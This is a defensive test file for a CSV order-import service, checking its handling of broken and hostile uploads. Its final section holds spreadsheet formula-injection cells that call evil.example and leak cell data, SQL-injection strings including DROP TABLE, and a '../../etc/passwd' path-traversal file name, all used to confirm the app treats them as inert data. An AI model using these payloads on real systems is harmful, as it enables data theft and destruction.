import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixturesDir, openTestStore } from '../support/test-store.ts';
import { uploadFile } from '../support/upload.ts';

// The bad-input corpus: broken or hostile files (test/fixtures/bad/, and two generated here:
// a 3 MB line and a file over the size limit). Each gets its exact outcome — a 4xx naming the
// problem, or 200 with the bad lines named — and after each the server still answers and the
// data imported before it is unchanged.

const bad = (name: string) => fs.readFileSync(path.join(fixturesDir, 'bad', name));
const header = 'order_id,ordered_at,sku,quantity,unit_price,product_name';

let store: Awaited<ReturnType<typeof openTestStore>>;
beforeAll(async () => {
  store = await openTestStore({ withSmallShop: true });
});
afterAll(() => store.close());

/** The small shop's rows, by their canonical columns: what no later import may change. */
async function earlierData() {
  return {
    orderLines: await store.db.all(
      `SELECT order_id, sku, line_no, ordered_at::VARCHAR AS ordered_at, quantity, unit_price::VARCHAR AS price FROM order_lines WHERE import_id <= 2 ORDER BY ALL`,
    ),
    returns: await store.db.all(`SELECT return_id, order_id, sku, quantity, reason, resolution, amount_exported::VARCHAR AS amount FROM returns WHERE import_id <= 2 ORDER BY ALL`),
  };
}

async function counts() {
  const [row] = await store.db.all(
    'SELECT (SELECT count(*) FROM order_lines)::INTEGER AS lines, (SELECT count(*) FROM returns)::INTEGER AS returns, (SELECT count(*) FROM imports)::INTEGER AS imports',
  );
  return row;
}

interface Outcome {
  status: number;
  code?: string;
  /** words the error message must contain */
  says?: string[];
  rowsRead?: number;
  rowsImported?: number;
  rejects?: Array<{ line: number; field: string; value?: string; reason: string }>;
  warnings?: string[];
}

async function expectOutcome(content: string | Uint8Array, outcome: Outcome, options: { fileName?: string; kind?: string; mapping?: string } = {}) {
  const before = await earlierData();
  const countsBefore = await counts();
  const res = await uploadFile(store.app, content, { kind: 'auto', mode: 'append', ...options });
  expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(outcome.status);
  if (outcome.status === 200) {
    if (outcome.rowsRead !== undefined) expect(res.body.rowsRead).toBe(outcome.rowsRead);
    if (outcome.rowsImported !== undefined) expect(res.body.rowsImported).toBe(outcome.rowsImported);
    const rejects = res.body.rejects.map((r: Outcome['rejects'] & object) => r);
    if (outcome.rejects) {
      expect(rejects.map(({ line, field, reason }: { line: number; field: string; reason: string }) => ({ line, field, reason }))).toEqual(
        outcome.rejects.map(({ line, field, reason }) => ({ line, field, reason })),
      );
      for (const [i, expected] of outcome.rejects.entries()) if (expected.value !== undefined) expect(rejects[i].value).toBe(expected.value);
    }
    if (outcome.warnings) expect(res.body.warnings.map((w: { code: string }) => w.code)).toEqual(outcome.warnings);
  } else {
    expect(res.body.error.code).toBe(outcome.code);
    for (const word of outcome.says ?? []) expect(res.body.error.message).toContain(word);
    expect(await counts()).toEqual(countsBefore);
  }
  expect((await store.app.request('/api/health')).status).toBe(200);
  expect(await earlierData()).toEqual(before);
  return res.body;
}

const notText = 'holds bytes that are not text in the file\u2019s encoding';

describe('files that cannot be imported: 4xx naming the problem, nothing changed', () => {
  it.each<[string, Outcome, { kind?: string }?]>([
    ['empty.csv', { status: 422, code: 'empty_file', says: ['empty'] }],
    ['blank-lines-only.csv', { status: 422, code: 'empty_file', says: ['no text'] }],
    ['header-only.csv', { status: 422, code: 'no_rows', says: ['header but no rows'] }],
    ['image-renamed.csv', { status: 415, code: 'not_text', says: ['PNG image'] }],
    ['excel-renamed.csv', { status: 415, code: 'not_text', says: ['Excel', 'Save the sheet as CSV'] }],
    ['binary-garbage.csv', { status: 415, code: 'not_text', says: ['not a text file'] }],
    ['gzip-not-csv.csv.gz', { status: 415, code: 'not_text', says: ['PNG image'] }],
    ['unterminated-quote.csv', { status: 422, code: 'unterminated_quote', says: ['Line 2', 'never closed'] }],
    ['no-recognisable-columns.csv', { status: 422, code: 'missing_columns', says: ['order_id, ordered_at, sku, quantity, unit_price', 'Columns seen: foo, bar, baz'] }],
    ['title-line-only.csv', { status: 422, code: 'missing_columns', says: ['Columns seen: Ventas al 31 de marzo de 2025'] }],
    ['returns-sent-as-orders.csv', { status: 422, code: 'missing_columns', says: ['ordered_at, unit_price', 'It looks like a returns file'] }, { kind: 'orders' }],
    ['only-bad-rows.csv', { status: 422, code: 'no_valid_rows', says: ['None of the 2 rows'] }],
    // two exports pasted one under the other, the second with quantity and price swapped: read
    // under the first header, B1003 would be 20 units at 3.00
    ['reordered-header.csv', { status: 422, code: 'reordered_header', says: ['Line 4', 'another order', 'Split the file at line 4'] }],
  ])('%s', async (file, outcome, options) => {
    await expectOutcome(bad(file), outcome, { fileName: file, ...options });
  });

  it('a header repeated in the same order costs only its own row', async () => {
    const pasted = fs.readFileSync(path.join(fixturesDir, 'bad', 'reordered-header.csv'), 'utf8').replace('order_id,ordered_at,sku,unit_price,quantity', 'order_id,ordered_at,sku,quantity,unit_price').replace('20.00,3', '3,20.00').replace('50.00,1', '1,50.00');
    const res = await uploadFile(store.app, Buffer.from(pasted), { fileName: 'pasted.csv', kind: 'orders' });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ rowsRead: 5, rowsImported: 4, rowsRejected: 1 });
    expect(new Set(res.body.rejects.map((r: { line: number }) => r.line))).toEqual(new Set([4]));
  });

  it('a header repeated in the same order is no reordered header when it repeats a name (Mercado Libre\'s "Estado")', async () => {
    const lines = fs.readFileSync(path.join(fixturesDir, 'layouts', 'mercadolibre-ventas-ar.csv'), 'utf8').split('\n').filter((l) => l !== '');
    const header = lines.find((l) => l.startsWith('# de venta'))!;
    const pasted = [...lines, header, lines.at(-1)!.replace('2000003', '2000004')].join('\n');
    const res = await uploadFile(store.app, Buffer.from(pasted), { fileName: 'ventas.csv' });
    expect(res.status).toBe(200);
    // the four sales stand; the header row repeated is the one row rejected
    expect(res.body).toMatchObject({ rowsRead: 5, rowsImported: 4, rowsRejected: 1 });
    expect(res.body.rejects).toContainEqual(expect.objectContaining({ value: 'Fecha de venta', reason: 'not a valid date' }));
  });

  it('returns-sent-as-orders.csv names the kind it fits and the headers seen', async () => {
    const res = await uploadFile(store.app, bad('returns-sent-as-orders.csv'), { kind: 'orders' });
    expect(res.body.error.details).toMatchObject({ missing: ['ordered_at', 'unit_price'], suggestedKind: 'returns' });
    expect(res.body.error.details.headersSeen).toContain('reason_raw');
  });

  it('only-bad-rows.csv lists why every row failed', async () => {
    const res = await uploadFile(store.app, bad('only-bad-rows.csv'));
    // line 3's -1 makes it a credit line (a return), whose sign is no problem; its date still is
    expect(res.body.error.details.rejects.map((r: { line: number; field: string }) => [r.line, r.field])).toEqual([
      [2, 'ordered_at'],
      [2, 'quantity'],
      [2, 'unit_price'],
      [3, 'ordered_at'],
    ]);
  });

  it('a file over the size limit (generated) → 413, whatever its name', async () => {
    const big = Buffer.alloc(6 * 1024 * 1024, 'x');
    await expectOutcome(big, { status: 413, code: 'file_too_large', says: ['INVERSA_MAX_UPLOAD'] }, { fileName: 'big.csv' });
  });
});

describe('files with bad lines: 200, the bad lines named, the rest imported', () => {
  it.each<[string, Outcome, { kind?: string }?]>([
    ['truncated-utf8-sequence.csv', { status: 200, rowsRead: 3, rowsImported: 2, rejects: [{ line: 3, field: 'row', reason: notText }] }],
    ['file-cut-mid-character.csv', { status: 200, rowsRead: 2, rowsImported: 1, rejects: [{ line: 3, field: 'row', reason: notText }] }],
    [
      'ragged-rows.csv',
      {
        status: 200,
        rowsRead: 4,
        rowsImported: 2,
        rejects: [
          { line: 3, field: 'row', value: 'BAD-10,2025-01-08 11:00:00,B,1', reason: 'has 4 values where the header has 6' },
          { line: 4, field: 'row', reason: 'has 8 values where the header has 6' },
        ],
      },
    ],
    ['duplicated-headers.csv', { status: 200, rowsImported: 2, rejects: [], warnings: ['repeated_header'] }],
    [
      'impossible-dates.csv',
      {
        status: 200,
        rowsRead: 5,
        rowsImported: 2,
        rejects: [
          { line: 2, field: 'ordered_at', value: '31/02/2025 10:00', reason: 'not a valid date' },
          { line: 4, field: 'ordered_at', value: '00/01/2025 10:00', reason: 'not a valid date' },
          { line: 5, field: 'ordered_at', value: '15/13/2025 10:00', reason: 'not a valid date' },
        ],
      },
    ],
    [
      'text-in-numbers.csv',
      {
        status: 200,
        rowsImported: 1,
        rejects: [
          { line: 2, field: 'quantity', value: 'two', reason: 'not a whole number' },
          { line: 3, field: 'unit_price', value: '12abc', reason: 'not a number' },
          { line: 4, field: 'quantity', value: '1.5', reason: 'not a whole number' },
        ],
      },
    ],
    [
      'negative-quantities.csv',
      {
        // line 2's -2 is a credit line: a return of 2 (unmatched: no earlier sale), not a bad sale
        status: 200,
        rowsImported: 2,
        rejects: [
          { line: 3, field: 'quantity', value: '0', reason: 'must be more than zero' },
          { line: 4, field: 'unit_price', value: '-9.00', reason: 'cannot be negative' },
        ],
      },
    ],
    [
      'negative-quantities.csv',
      {
        // said to hold orders only, the file has no credit lines: -2 is a bad quantity
        status: 200,
        rowsImported: 1,
        rejects: [
          { line: 2, field: 'quantity', value: '-2', reason: 'must be more than zero' },
          { line: 3, field: 'quantity', value: '0', reason: 'must be more than zero' },
          { line: 4, field: 'unit_price', value: '-9.00', reason: 'cannot be negative' },
        ],
      },
      { kind: 'orders' },
    ],
    [
      'returns-running-backwards.csv',
      {
        status: 200,
        rowsRead: 4,
        rowsImported: 1,
        rejects: [
          { line: 2, field: 'received_at', reason: 'received before it was requested' },
          // O2 was ordered on 2025-01-10 (the small shop)
          { line: 3, field: 'requested_at', reason: 'requested before its order was placed' },
          { line: 4, field: 'resolved_at', reason: 'resolved before it was requested or received' },
        ],
      },
    ],
    ['cr-only-newlines.csv', { status: 200, rowsRead: 2, rowsImported: 1, rejects: [{ line: 3, field: 'quantity', value: 'x', reason: 'not a whole number' }] }],
    // "Taza\ncon\ntres líneas" spans lines 2–4, so the bad price is on line 6
    ['quoted-newlines-and-bad-row.csv', { status: 200, rowsRead: 3, rowsImported: 2, rejects: [{ line: 6, field: 'unit_price', value: 'abc', reason: 'not a number' }] }],
    ['bom-and-sep-line.csv', { status: 200, rowsImported: 1, rejects: [] }],
    ['trailing-delimiters.csv', { status: 200, rowsRead: 2, rowsImported: 2, rejects: [] }],
    ['utf16-without-bom.csv', { status: 200, rowsImported: 1, rejects: [] }],
    ['latin1-after-ascii.csv', { status: 200, rowsRead: 6001, rowsImported: 6001, rejects: [] }],
    ['emoji-and-invisible-characters.csv', { status: 200, rowsImported: 2, rejects: [] }],
  ])('%s', async (file, outcome, options) => {
    await expectOutcome(bad(file), outcome, { fileName: file, ...options });
  });

  it('a 3 MB line (generated) is left out and named; the lines around it are imported', async () => {
    const content = `${header}\nBAD-50,2025-01-22 10:00:00,A,1,10.00,Taza\nBAD-51,2025-01-22 11:00:00,B,1,12.00,${'x'.repeat(3 * 1024 * 1024)}\nBAD-52,2025-01-22 12:00:00,C,1,9.00,Vaso\n`;
    const body = await expectOutcome(content, { status: 200, rowsRead: 3, rowsImported: 2, rejects: [{ line: 3, field: 'row', reason: 'is longer than 1 MiB' }] });
    expect(body.rejects[0].value.length).toBeLessThanOrEqual(200);
  });

  it('the Latin-1 byte after 300 KB of ASCII is read as Windows-1252, not as broken UTF-8', async () => {
    expect(await store.db.all(`SELECT product_name FROM order_lines WHERE order_id = 'BAD-L6000'`)).toEqual([{ product_name: 'Peña' }]);
  });

  it('invisible and emoji characters are kept as written; spaces around a value are trimmed', async () => {
    expect(await store.db.all(`SELECT sku, product_name FROM order_lines WHERE order_id IN ('BAD-44', 'BAD-45') ORDER BY 1`)).toEqual([
      { sku: 'A\u200b', product_name: 'Taza 📦 \u202eevil\u202c' },
      { sku: 'B', product_name: 'spaced' },
    ]);
  });
});

describe('hostile content is data, never code', () => {
  it('formula-looking cells are stored as written and neutralised in the rejects download', async () => {
    const body = await expectOutcome(bad('formula-cells.csv'), { status: 200, rowsImported: 1, rejects: [{ line: 3, field: 'quantity', value: '=1+1', reason: 'not a whole number' }] });
    expect(await store.db.all(`SELECT sku, product_name, customer_id FROM order_lines WHERE order_id = 'BAD-28'`)).toEqual([
      { sku: '=HYPERLINK("http://evil.example/?"&A1;"click")', product_name: '=HYPERLINK("http://evil.example","Gratis")', customer_id: '+5491155550000' },
    ]);
    const csv = await (await store.app.request(body.rejectsUrl)).text();
    expect(csv).toBe("line,field,value,reason\r\n3,quantity,'=1+1,not a whole number\r\n");
  });

  it('SQL-looking text, in values and in a header (mapped by hand), is stored as text and runs nothing', async () => {
    const mapping = JSON.stringify({ product_name: 'product_name"; DROP TABLE order_lines; --' });
    const body = await expectOutcome(bad('sql-looking-text.csv'), { status: 200, rowsImported: 2, rejects: [] }, { mapping });
    expect(body.mapping.product_name).toBe('product_name"; DROP TABLE order_lines; --');
    expect(await store.db.all(`SELECT sku, product_name FROM order_lines WHERE order_id IN ('BAD-30', 'BAD-31') ORDER BY 1`)).toEqual([
      { sku: 'A', product_name: "Robert'); DROP TABLE returns;--" },
      { sku: "B' OR '1'='1", product_name: '$1 UNION SELECT * FROM imports' },
    ]);
  });

  it('a path in the upload’s file name is reduced to the name', async () => {
    await expectOutcome(bad('path-in-file-name.csv'), { status: 200, rowsImported: 1 }, { fileName: '../../etc/passwd.csv' });
    const { rows } = await (await store.app.request('/api/imports')).json();
    expect(rows[0].fileName).toBe('passwd.csv');
  });
});

describe('the corpus', () => {
  it('holds at least 25 files, each used above', async () => {
    const source = fs.readFileSync(new URL(import.meta.url), 'utf8');
    const files = fs.readdirSync(path.join(fixturesDir, 'bad'));
    expect(files.length).toBeGreaterThanOrEqual(25);
    for (const file of files) expect(source, file).toContain(`'${file}'`);
  });
});
